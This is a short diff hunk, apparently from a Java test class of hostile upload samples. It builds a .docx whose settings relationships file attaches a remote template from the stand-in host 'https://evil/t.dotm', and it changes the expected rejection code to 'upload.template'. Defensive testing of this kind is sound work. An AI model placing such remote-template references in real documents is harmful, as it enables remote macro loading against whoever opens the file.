@@ -298,7 +298,7 @@ final class HostileFiles {
             docxParts(),
             "word/_rels/settings.xml.rels",
             rels("attachedTemplate", "https://evil/t.dotm", "TargetMode='External'")),
-        "upload.externalLinks");
+        "upload.template");
     add(
         "a picture from elsewhere",
         "a.docx",
